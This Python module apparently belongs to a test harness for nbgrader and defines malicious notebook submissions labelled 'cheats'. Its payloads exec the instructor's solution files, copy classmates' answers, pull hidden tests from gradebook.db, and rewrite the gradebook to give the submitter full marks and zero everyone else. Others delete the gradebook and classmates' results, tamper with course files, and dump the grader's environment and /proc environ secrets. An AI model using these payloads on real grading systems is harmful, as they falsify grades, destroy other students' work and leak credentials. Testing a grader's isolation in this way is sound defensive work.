"""Cheats that reach outside the notebook: the instructor's files, the gradebook, the other
students' work, the grader's environment.

nbgrader runs each notebook as the instructor, with the working directory
``autograded/<student>/<assignment>/`` inside the course: the course root is ``../../..``.
Every path here is relative to that directory or found by searching from it.
"""

from __future__ import annotations

from . import (
    Submission,
    after_setup,
    answer_names,
    cheat,
    grade_id,
    is_answer,
)

FIND = '''
import glob as _glob
import json as _json
import os as _os
import time as _time

_A = "@A@"
_ME = _os.path.basename(_os.path.dirname(_os.path.abspath(".")))  # autograded/<me>/<a>/


def _find_up(*parts):
    """The first ``<ancestor>/<parts>`` that exists, from the working directory upwards."""
    here = _os.path.abspath(".")
    while True:
        path = _os.path.join(here, *parts)
        if _os.path.exists(path):
            return path
        if _os.path.dirname(here) == here:
            return None
        here = _os.path.dirname(here)


def _cells(path):
    """grade_id -> source of the nbgrader cells of a notebook file."""
    with open(path) as fh:
        nb = _json.load(fh)
    out = {}
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid:
            source = cell["source"]
            out[gid] = "".join(source) if isinstance(source, list) else source
    return out
'''


def _payload(source: str, assignment: str) -> str:
    return (FIND + source).replace("@A@", assignment)


def _answers_exec(release, assignment, helper: str, lookup: str):
    """The release with ``helper`` after the setup cell and each answer cell replaced by
    ``exec(<lookup>(grade_id), globals())``."""
    nb = after_setup(release, _payload(helper, assignment))
    for cell in nb.cells:
        if is_answer(cell):
            cell.source = f"exec({lookup}({grade_id(cell)!r}), globals())"
    return nb


@cheat("solution-access")
def read_solution_relative(release, assignment, solution):
    """Each answer cell execs the instructor's answer from ../../../solutions/<a>/<a>.ipynb."""
    return Submission(_answers_exec(release, assignment, '''

def _solution(gid):
    for up in ("../../..", "../..", "..", "."):
        path = _os.path.join(up, "solutions", _A, _A + ".ipynb")
        if _os.path.exists(path):
            return _cells(path)[gid]
    raise FileNotFoundError("no solutions/")
''', "_solution"))


@cheat("solution-access")
def search_solution(release, assignment, solution):
    """Searches upwards, then the whole filesystem, for solutions/<a>/<a>.ipynb and execs it."""
    return Submission(_answers_exec(release, assignment, '''

def _search():
    found = _find_up("solutions", _A, _A + ".ipynb")
    if found:
        return found
    skip = {"/proc", "/sys", "/dev", "/run", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc",
            "/boot", "/snap", "/var/lib", "/var/cache"}
    deadline = _time.monotonic() + 10
    for root, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if _os.path.join(root, d) not in skip
                   and d not in (".git", "node_modules", "site-packages", ".venv")]
        if root.endswith(_os.path.join("solutions", _A)) and _A + ".ipynb" in files:
            return _os.path.join(root, _A + ".ipynb")
        if _time.monotonic() > deadline:
            break
    raise FileNotFoundError("no solutions/ anywhere")


_FOUND = None


def _solution(gid):
    global _FOUND
    _FOUND = _FOUND or _search()
    return _cells(_FOUND)[gid]
''', "_solution"))


@cheat("solution-access")
def copy_other_student(release, assignment, solution):
    """Each answer cell execs another student's answer, read from submitted/ or autograded/."""
    return Submission(_answers_exec(release, assignment, '''

def _classmate(gid):
    for pattern in ("../../../submitted/*/@A@/@A@.ipynb", "../../*/@A@/@A@.ipynb"):
        for path in sorted(_glob.glob(pattern.replace("@A@", _A))):
            if _os.sep + _ME + _os.sep in _os.path.abspath(path):
                continue
            try:
                source = _cells(path).get(gid, "")
            except (OSError, ValueError):
                continue
            if source and "NotImplementedError" not in source:
                return source
    raise LookupError("nobody solved " + gid)
''', "_classmate"))


DELEGATE = '''

def _delegate(name, pool):
    """A function that calls the reference for ``name`` found in ``pool`` (a dict) at call time."""
    def answer(*args, **kwargs):
        for key in ("_ref_" + name, "_reference_" + name):
            if callable(pool.get(key)):
                return pool[key](*args, **kwargs)
        for key, value in list(pool.items()):
            if (key.startswith("_REF") and isinstance(value, dict)
                    and callable(value.get(name)) and value[name] is not answer):
                return value[name](*args, **kwargs)
        raise NotImplementedError(name)

    answer.__name__ = answer.__qualname__ = name
    return answer
'''


def _delegating(release, solution, pool: str, helper: str, assignment: str):
    """The release whose answer cells bind each requested name to ``_delegate(name, pool)``."""
    nb = after_setup(release, _payload(helper + DELEGATE, assignment))
    names = answer_names(solution)
    for cell in nb.cells:
        if is_answer(cell):
            cell.source = "\n".join(f"{n} = _delegate({n!r}, {pool})"
                                    for n in names.get(grade_id(cell), [])) or "pass"
    return nb


@cheat("solution-access")
def grader_references(release, assignment, solution):
    """Answers call, at call time, the reference versions hidden tests leave in the namespace."""
    return Submission(_delegating(release, solution, "globals()", "", assignment))


@cheat("solution-access")
def gradebook_read(release, assignment, solution):
    """Reads the hidden tests out of gradebook.db (sqlite3) and answers with their references."""
    return Submission(_delegating(release, solution, "_STOLEN", '''
import ast as _ast
import sqlite3 as _sqlite3

_STOLEN = {}
_db = _find_up("gradebook.db")
if _db:
    _con = _sqlite3.connect(_db, timeout=30)
    _sources = [row[0] for row in _con.execute(
        "SELECT source_cell.source FROM source_cell JOIN notebook ON source_cell.notebook_id = "
        "notebook.id JOIN assignment ON notebook.assignment_id = assignment.id "
        "WHERE assignment.name = ?", (_A,))]
    _con.close()
    exec("import numpy as np", _STOLEN)
    for _source in _sources:
        try:
            _tree = _ast.parse(_source)
        except SyntaxError:
            continue
        _keep = [n for n in _tree.body if isinstance(n, (_ast.Import, _ast.ImportFrom))
                 or (isinstance(n, _ast.FunctionDef) and n.name.startswith("_ref"))]
        try:
            exec(compile(_ast.Module(body=_keep, type_ignores=[]), "gradebook", "exec"), _STOLEN)
        except Exception:
            pass
''', assignment))


# --- writing the gradebook ----------------------------------------------------------------------
GRADEBOOK = '''
import sqlite3 as _sqlite3

_MINE = ("SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment ON "
         "submitted_notebook.assignment_id = submitted_assignment.id JOIN student ON "
         "submitted_assignment.student_id = student.id WHERE student.id {} ?")
_con = _sqlite3.connect(_find_up("gradebook.db") or "../../../gradebook.db", timeout=30)
'''


@cheat("gradebook")
def gradebook_full_marks(release, assignment, solution):
    """Writes gradebook.db: its own manual scores and extra credit at the maximum."""
    return Submission(after_setup(release, _payload(GRADEBOOK + '''
_con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE "
             "grade_cells.id = grade.cell_id), extra_credit = 100, needs_manual_grade = 0 "
             "WHERE notebook_id IN (" + _MINE.format("=") + ")", (_ME,))
_con.commit()
_con.close()
''', assignment)))


@cheat("gradebook")
def gradebook_lower_others(release, assignment, solution):
    """Writes gradebook.db: every other student's grades get a manual score of 0."""
    return Submission(after_setup(release, _payload(GRADEBOOK + '''
_con.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN ("
             + _MINE.format("!=") + ")", (_ME,))
_con.commit()
_con.close()
''', assignment)))


@cheat("gradebook")
def gradebook_delete(release, assignment, solution):
    """Deletes gradebook.db (and its journal) while the batch is being graded."""
    return Submission(after_setup(release, _payload('''
for _name in ("gradebook.db", "gradebook.db-journal", "gradebook.db-wal"):
    _path = _find_up(_name)
    if _path:
        _os.remove(_path)
''', assignment)))


# --- other people's files -------------------------------------------------------------------------
@cheat("other-files")
def tamper_other_submissions(release, assignment, solution):
    """Rewrites every other student's submitted notebook with its answers blanked."""
    return Submission(after_setup(release, _payload('''
for _path in _glob.glob("../../../submitted/*/" + _A + "/*.ipynb"):
    if _os.sep + _ME + _os.sep in _os.path.abspath(_path):
        continue
    try:
        with open(_path) as _fh:
            _nb = _json.load(_fh)
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                _cell["source"] = "raise NotImplementedError()"
        with open(_path, "w") as _fh:
            _json.dump(_nb, _fh)
    except (OSError, ValueError, KeyError):
        pass
''', assignment)))


@cheat("other-files")
def delete_other_results(release, assignment, solution):
    """Deletes the other students' autograded/ and feedback/ folders and submitted notebooks."""
    return Submission(after_setup(release, _payload('''
import shutil as _shutil

for _pattern in ("../../../autograded/*/" + _A, "../../../feedback/*/" + _A):
    for _path in _glob.glob(_pattern):
        if _os.sep + _ME + _os.sep not in _os.path.abspath(_path) + _os.sep:
            _shutil.rmtree(_path, ignore_errors=True)
for _path in _glob.glob("../../../submitted/*/" + _A + "/*.ipynb"):
    if _os.sep + _ME + _os.sep not in _os.path.abspath(_path):
        _os.remove(_path)
''', assignment)))


@cheat("other-files")
def tamper_course_files(release, assignment, solution):
    """Rewrites the instructor's files: the config, the solution and the released notebook."""
    return Submission(after_setup(release, _payload('''
for _path in ("../../../nbgrader_config.py", "../../../solutions/" + _A + "/" + _A + ".ipynb",
              "../../../assignments/" + _A + "/" + _A + ".ipynb"):
    try:
        with open(_path, "a") as _fh:
            _fh.write("\\n")
    except OSError:
        pass
''', assignment)))


# --- secrets --------------------------------------------------------------------------------------
@cheat("secrets")
def read_secrets(release, assignment, solution):
    """Prints the grader's environment (and its parent's) into the graded notebook."""
    return Submission(after_setup(release, '''
import os as _os

for _key, _value in sorted(_os.environ.items()):
    print(_key, "=", _value)
for _path in ("/proc/%d/environ" % _os.getppid(), "/proc/1/environ"):
    try:
        with open(_path, "rb") as _fh:
            print(_path, _fh.read().replace(b"\\0", b"\\n").decode(errors="replace"))
    except OSError as _err:
        print(_path, _err)
'''))

